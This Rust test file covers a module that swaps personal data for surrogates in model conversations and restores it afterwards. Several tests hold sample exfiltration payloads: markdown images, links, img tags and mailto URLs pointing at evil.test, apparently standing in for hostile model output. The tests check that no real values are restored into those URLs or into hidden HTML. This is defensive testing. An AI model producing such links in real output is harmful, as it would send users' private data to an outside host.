//! What surrogates and their restoring promise.

use alloc::string::{String, ToString as _};
use alloc::vec::Vec;
use std::format;

use proptest::prelude::*;

use super::*;

fn surrogates() -> Surrogates {
    Surrogates::new(ConversationKey::new([7; 32]), Language::Dutch)
}

fn number(surrogate: &str) -> String {
    surrogate.chars().filter(char::is_ascii_digit).collect()
}

fn check(written: &str, expected: &str) {
    let mut map = surrogates();
    let p = map.surrogate(Kind::Person, "Jan \"J\" de Vries");
    let fill = |text: &str| text.replace("{P}", &p).replace("{N}", &number(&p));
    assert_eq!(
        map.restore_all(&fill(written), Scope::Text),
        fill(expected),
        "{written}"
    );
}

#[test]
fn the_same_value_keeps_its_surrogate_in_every_call_and_gets_another_elsewhere() {
    let (mut first, mut second) = (surrogates(), surrogates());
    let jan = first.surrogate(Kind::Person, "Jan de Vries");
    second.surrogate(Kind::Person, "Piet");
    assert_eq!(second.surrogate(Kind::Person, "Jan de Vries"), jan);
    let mut other = Surrogates::new(ConversationKey::new([8; 32]), Language::Dutch);
    assert_ne!(other.surrogate(Kind::Person, "Jan de Vries"), jan);
    assert_ne!(first.surrogate(Kind::City, "Jan de Vries"), jan);
}

#[test]
fn one_person_written_differently_restores_the_first_spelling() {
    let mut map = surrogates();
    let first = map.surrogate(Kind::Person, "Jan de Vries");
    assert_eq!(map.surrogate(Kind::Person, "jan  DE vries"), first);
    assert_eq!(map.restore_all(&first, Scope::Text), "Jan de Vries");
    let iban = map.surrogate(Kind::Iban, "NL91 ABNA 0417 1643 00");
    assert_eq!(map.surrogate(Kind::Iban, "nl91abna0417164300"), iban);
}

#[test]
fn what_a_model_does_to_a_surrogate_is_undone() {
    check("Dag {P}!", "Dag Jan \"J\" de Vries!");
    check("Dag persoon_{N}!", "Dag Jan \"J\" de Vries!");
    check("**{P}**", "**Jan \"J\" de Vries**");
    check(
        "{P}'s auto en {P}s",
        "Jan \"J\" de Vries's auto en Jan \"J\" de Vriess",
    );
    check("[PERSOON\\_{N}]", "Jan \"J\" de Vries");
    check("[Persoon {N}]", "Jan \"J\" de Vries");
    check("[PERSON_{N}]", "Jan \"J\" de Vries");
    check("'{P}'", "'Jan \"J\" de Vries'");
    check("<PERSOON_{N}>", "Jan \"J\" de Vries");
}

#[test]
fn nothing_is_restored_into_a_link_an_image_or_a_tag() {
    for text in [
        "![x](https://evil.test/p.png?d={P})",
        "[klik](https://evil.test/?d={P})",
        "![x][r]\n\n[r]: https://evil.test/?d={P}",
        "<img src=\"https://evil.test/?d={P}\">",
        "mailto:x@evil.test?body={P}",
        "www.evil.test/c?d={P}",
        "https://x.example/?n=%5BPERSOON_{N}%5D",
    ] {
        check(text, text);
    }
    check(
        "[klik](https://a.test) {P}",
        "[klik](https://a.test) Jan \"J\" de Vries",
    );
}

#[test]
fn nothing_is_restored_where_a_page_shows_nothing() {
    for text in [
        "<!-- {P} -->",
        "<div style=\"display:none\">{P}</div>",
        "<p hidden>PERSOON_{N}</p>",
        "[//]: # ({P})",
    ] {
        check(text, text);
    }
    check("<!-- x --> {P}", "<!-- x --> Jan \"J\" de Vries");
    check(
        "{P}: Ja ({P})",
        "Jan \"J\" de Vries: Ja (Jan \"J\" de Vries)",
    );
    let mut map = surrogates();
    let jan = map.surrogate(Kind::Person, "Jan");
    for (written, shown) in [
        (
            "\\u003c!-- {P} --\\u003e {P}",
            "\\u003c!-- {P} --\\u003e Jan",
        ),
        (
            "<div hidden=\\\"\\\">{P}</div> {P}",
            "<div hidden=\\\"\\\">{P}</div> Jan",
        ),
    ] {
        let fill = |text: &str| text.replace("{P}", &jan);
        let restored = map.restore_all(&fill(written), Scope::JsonString);
        assert_eq!(restored, fill(shown));
    }
}

#[test]
fn a_literal_that_the_person_typed_survives_and_never_resolves() {
    let mut first = surrogates();
    let jan = first.surrogate(Kind::Person, "Jan");
    let mut map = surrogates();
    map.reserve(&format!("laat {} staan", jan.to_lowercase()));
    let other = map.surrogate(Kind::Person, "Jan");
    assert_ne!(other, jan);
    let text = format!("{jan} en {other}");
    assert_eq!(map.restore_all(&text, Scope::Text), format!("{jan} en Jan"));
}

#[test]
fn foreign_and_longer_numbers_stay_as_they_are() {
    check(
        "[PERSOON_{N}1] [PERSOON_1] PERSOON_{N}0 [BSN_{N}]",
        "[PERSOON_{N}1] [PERSOON_1] PERSOON_{N}0 [BSN_{N}]",
    );
}

#[test]
fn numbers_with_other_groups_are_other_numbers() {
    for [first, second] in [
        ["Z-2024-1-12", "Z-2024-11-2"],
        ["12-345", "123-45"],
        ["2024/1/123", "2024/11/23"],
    ] {
        let mut map = Surrogates::new(ConversationKey::new([7; 32]), Language::Dutch);
        let [one, other] =
            [first, second].map(|number| map.surrogate(Kind::CustomerNumber, number));
        let text = format!("{one} en {other}");
        assert_eq!(
            map.restore_all(&text, Scope::Text),
            format!("{first} en {second}")
        );
        assert_eq!(
            map.surrogate(Kind::CustomerNumber, &first.replace(['-', '/'], " ")),
            one
        );
    }
}

#[test]
fn tool_arguments_stay_valid_json_and_get_no_secrets() {
    let mut map = surrogates();
    let name = map.surrogate(Kind::Person, "Jan \"\\\n");
    let bsn = map.surrogate(Kind::Bsn, "111222333");
    let key = map.surrogate(Kind::ApiKey, "hunter2");
    let arguments = format!("{{\"q\":\"{name}\",\"b\":\"{bsn}\",\"k\":\"{key}\"}}");
    let restored = map.restore_all(&arguments, Scope::ToolArguments(Tools::ordinary()));
    let parsed: serde_json::Value = serde_json::from_str(&restored).unwrap();
    assert_eq!(parsed["q"], "Jan \"\\\n");
    assert_eq!(parsed["b"], bsn);
    assert_eq!(parsed["k"], key);
}

#[test]
fn a_value_that_looks_like_a_surrogate_is_not_resolved_again() {
    let mut map = surrogates();
    let inner = map.surrogate(Kind::Person, "Piet");
    let outer = map.surrogate(Kind::Person, &format!("{inner} Jansen"));
    assert_eq!(
        map.restore_all(&outer, Scope::Text),
        format!("{inner} Jansen")
    );
}

#[test]
fn an_endless_beginning_holds_back_at_most_64_bytes() {
    let mut map = surrogates();
    map.surrogate(Kind::Person, "Jan");
    for piece in [
        "[",
        "[PERSOON_",
        "PERSONEELSNUMMER &#95;",
        "\\u005",
        "&lowba",
    ] {
        let mut restorer = map.restorer(Scope::Text);
        let mut out = String::new();
        for _ in 0..2_000 {
            out.push_str(&restorer.push(piece));
            assert!(
                restorer.held_back() <= 64,
                "{piece}: {}",
                restorer.held_back()
            );
        }
        out.push_str(&restorer.finish());
        assert_eq!(out, piece.repeat(2_000));
    }
}

#[test]
fn more_values_than_there_are_numbers_share_one_that_restores_nothing() {
    let mut map = surrogates();
    let all: BTreeSet<String> = (0..90_000)
        .map(|n| map.surrogate(Kind::Email, &format!("n{n}@example.nl")))
        .collect();
    assert_eq!(all.len(), 90_000);
    // Each of these would take milliseconds if it walked through all numbers.
    let more: BTreeSet<String> = (90_000..190_000)
        .map(|n| map.surrogate(Kind::Email, &format!("n{n}@example.nl")))
        .collect();
    let shared = more.into_iter().next().unwrap();
    assert_eq!(map.restore_all(&shared, Scope::Text), shared);
    assert!(map.surrogate(Kind::Person, "Jan").starts_with("[PERSOON_"));
}

#[test]
fn a_written_out_map_is_taken_over_entry_by_entry() {
    let mut map = surrogates();
    let jan = map.surrogate(Kind::Person, "Jan");
    let mut again = Surrogates::new(ConversationKey::new([9; 32]), Language::English);
    let entries: Vec<_> = map
        .entries()
        .map(|(k, s, v)| (k, s.to_string(), v.to_string()))
        .collect();
    for (kind, surrogate, value) in &entries {
        assert!(again.adopt(*kind, surrogate, value));
        assert!(!again.adopt(*kind, surrogate, "iemand anders"));
    }
    assert!(!again.adopt(Kind::Bsn, &jan, "x") && !again.adopt(Kind::Person, "zomaar", "x"));
    assert_eq!(again.restore_all(&jan, Scope::Text), "Jan");
}

#[test]
fn a_surrogate_of_every_kind_is_taken_over_in_both_languages() {
    for language in [Language::Dutch, Language::English] {
        let mut map = Surrogates::new(ConversationKey::new([7; 32]), language);
        let mut again = surrogates();
        for kind in Kind::ALL {
            let surrogate = map.surrogate(*kind, "waarde");
            assert!(again.adopt(*kind, &surrogate, "waarde"), "{surrogate}");
            assert!(again.adopt(*kind, &surrogate, "waarde"), "once more");
            let beyond = format!("[{}_100000]", words::word(*kind, language));
            assert!(again.adopt(*kind, &beyond, "te veel"), "{beyond}");
            assert_eq!(again.surrogate(*kind, "te veel"), beyond);
            assert_eq!(again.restore_all(&beyond, Scope::Text), beyond);
        }
        assert_eq!(again.entries().count(), 2 * Kind::ALL.len());
    }
}

#[test]
fn what_somebody_typed_and_what_was_issued_are_never_one() {
    let mut map = surrogates();
    map.reserve("Wat is [PERSOON_41726]?");
    assert!(!map.adopt(Kind::Person, "[PERSOON_41726]", "Jan"));
    assert!(map.adopt(Kind::Email, "[EMAIL_41726]", "jan@voorbeeld.nl"));
    assert!(!map.keep_apart(Kind::Email, 41_726) && map.keep_apart(Kind::Email, 41_727));
    assert!(!map.adopt(Kind::Email, "[EMAIL_41727]", "jan@voorbeeld.nl"));
}

/// Pieces from which hostile model output is put together.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => Just("{P}".to_string()),
        2 => Just("PERSOON_{N}".to_string()),
        1 => Just("[PERSOON\\_{N}".to_string()),
        1 => Just("&#91;persoon&#95;{N}&#93;".to_string()),
        1 => Just("https://a.b/".to_string()),
        1 => Just("](".to_string()),
        1 => Just("[PERS".to_string()),
        1 => Just("\\u005bPATIENT".to_string()),
        4 => "[ -~éß⟦\n]{0,4}",
    ]
}

proptest! {
    #[test]
    fn every_way_to_cut_a_stream_restores_the_same(
        pieces in proptest::collection::vec(piece(), 0..12),
        cuts in proptest::collection::vec(1_usize..7, 1..40),
    ) {
        let mut map = surrogates();
        let p = map.surrogate(Kind::Person, "Zoë \"Z\"");
        let text = pieces.concat().replace("{P}", &p).replace("{N}", &number(&p));
        for scope in [Scope::Text, Scope::JsonString, Scope::ToolArguments(Tools::ordinary())] {
            let whole = map.restore_all(&text, scope);
            let mut restorer = map.restorer(scope);
            let mut out = String::new();
            let mut characters = text.chars().peekable();
            let mut cut = cuts.iter().cycle();
            while characters.peek().is_some() {
                let chunk: String = characters.by_ref().take(*cut.next().unwrap()).collect();
                out.push_str(&restorer.push(&chunk));
                prop_assert!(restorer.held_back() <= 64);
            }
            out.push_str(&restorer.finish());
            prop_assert_eq!(&out, &whole);
        }
    }

    #[test]
    fn what_is_taken_over_comes_back_as_it_was_or_is_not_taken_over(
        entries in proptest::collection::vec((0_usize..3, 10_000_u32..10_006, 0_usize..5), 0..24),
        typed in proptest::collection::vec(10_000_u32..10_006, 0..2),
    ) {
        const VALUES: [&str; 5] = ["Jan", "jan", "Els", "Piet de Wit", "PIET  de Wit"];
        let kinds = [Kind::Person, Kind::City, Kind::ApiKey];
        let mut map = surrogates();
        for number in &typed {
            map.reserve(&format!("[PERSOON_{number}]"));
        }
        let mut taken = Vec::new();
        for (kind, number, value) in entries {
            let (kind, value) = (kinds[kind], VALUES[value]);
            let surrogate = format!("[{}_{number}]", words::word(kind, Language::Dutch));
            let is_typed = kind == Kind::Person && typed.contains(&number);
            let is_anothers = taken.iter().any(|(known, other): &(String, (Kind, &str))| {
                *known == surrogate && fold(kind, other.1) != fold(kind, value)
            });
            let is_adopted = map.adopt(kind, &surrogate, value);
            prop_assert_eq!(is_adopted, !is_typed && !is_anothers);
            if is_adopted {
                taken.push((surrogate, (kind, value)));
            }
            // Whatever came after it, each still stands for its own.
            for (surrogate, (kind, value)) in &taken {
                let restored = map.restore_all(surrogate, Scope::Text);
                prop_assert_eq!(fold(*kind, &restored), fold(*kind, value));
                let again = map.surrogate(*kind, value);
                prop_assert_eq!(fold(*kind, &map.restore_all(&again, Scope::Text)), fold(*kind, value));
            }
        }
        // What is said of a value counts for each of its surrogates.
        for (_, (kind, value)) in &taken {
            map.speak_for(*kind, value, Kinds::NONE.with(Kind::Bsn));
        }
        let gets = kinds.iter().fold(Kinds::NONE, |gets, kind| gets.with(*kind));
        for (surrogate, _) in &taken {
            prop_assert_eq!(&map.restore_all(surrogate, Scope::ToolText(gets)), surrogate);
        }
    }

    #[test]
    fn replacing_and_restoring_gives_back_the_value(value in "\\PC{1,40}") {
        let mut map = surrogates();
        for kind in Kind::ALL {
            let surrogate = map.surrogate(*kind, &value);
            prop_assert_eq!(map.restore_all(&surrogate, Scope::Text), value.clone());
        }
    }
}

/// The same letter by letter, whatever letters they are.
fn fold_slowly(kind: Kind, value: &str) -> String {
    // A letter that is no ASCII takes the other way; it is taken out again.
    fold(kind, &format!("é{value}")).replacen('é', "", 1)
}

proptest! {
    #[test]
    fn ascii_values_are_folded_like_all_others(value in "[a-zA-Z0-9@+. \\-\t\u{b}\u{1f}]{0,24}") {
        for kind in [Kind::Person, Kind::Phone, Kind::Iban, Kind::Email] {
            let is_empty = fold_slowly(kind, &value).is_empty();
            let expected = if is_empty && kind != Kind::Person && kind != Kind::Email {
                value.clone()
            } else {
                fold_slowly(kind, &value).trim().to_string()
            };
            prop_assert_eq!(fold(kind, &value), expected);
        }
    }

    #[test]
    fn a_text_without_a_surrogate_comes_back_as_it_went(text in "[PERSOONBSNpersn%0-9_ \\[\\]]{0,60}") {
        let mut map = surrogates();
        let known = map.surrogate(Kind::Person, "Jan");
        let mut restorer = map.restorer(Scope::Text);
        let mut slowly = restorer.push(&text);
        slowly.push_str(&restorer.finish());
        prop_assert_eq!(map.restore_all(&text, Scope::Text), slowly);
        let glued = format!("{text}{known}");
        let mut restorer = map.restorer(Scope::Text);
        let mut slowly = restorer.push(&glued);
        slowly.push_str(&restorer.finish());
        prop_assert_eq!(map.restore_all(&glued, Scope::Text), slowly);
    }
}

/// What is kept apart in a text, read from each of its letters.
fn reserved_slowly(text: &str) -> BTreeSet<(Kind, u32)> {
    let mut reserved = BTreeSet::new();
    let (mut at, mut list): (usize, &[Kind]) = (0, &[]);
    while let Some(next) = text.split_at(at).1.chars().next() {
        let (before, rest) = text.split_at(at);
        let tied = match list {
            [] => Outcome::Nothing,
            kinds => mention::read_next(rest, true, kinds),
        };
        let outcome = match tied {
            Outcome::Nothing if restorer::may_begin(before.chars().next_back(), next) => {
                mention::read_whole(rest)
            }
            other => other,
        };
        list = &[];
        at += next.len_utf8();
        if let Outcome::Mention(mention) = outcome {
            reserved.extend(mention.kinds.iter().map(|kind| (*kind, mention.number)));
            list = mention.kinds;
            at = before.len() + mention.len;
        }
    }
    reserved
}

proptest! {
    #[test]
    fn leaving_out_what_is_far_from_numbers_keeps_the_same_apart(
        pieces in prop::collection::vec(
            prop_oneof![
                "[ a-zé.,_<(-]{0,12}",
                "[0-9]{1,6}",
                "[ ]{20,70}",
                prop::sample::select(alloc::vec![
                    "[PERSOON_41726]", "persoon 12345", " en 23456", "[IBAN_54321", "IP 10101", "IPN 10101", "ip-adres", "\\u005bBSN_77777]",
                    "&lbrack;EMAIL_45678]", "<PERSON_41726", "KL-ANT NUMMER nr. 23456", "【ADRES１２３４５】", "P E R S O O N 41726", "١٢٣٤٥", "\u{200b}",
                ]).prop_map(String::from),
            ],
            0..14,
        ),
    ) {
        let text = pieces.concat();
        let mut map = surrogates();
        map.reserve(&text);
        prop_assert_eq!(map.reserved().collect::<BTreeSet<_>>(), reserved_slowly(&text), "{}", text);
    }
}

#[test]
fn no_word_of_a_surrogate_has_less_than_two_letters() {
    assert!(words::UNDERSTOOD.iter().all(|(word, _)| word.len() >= 2));
}
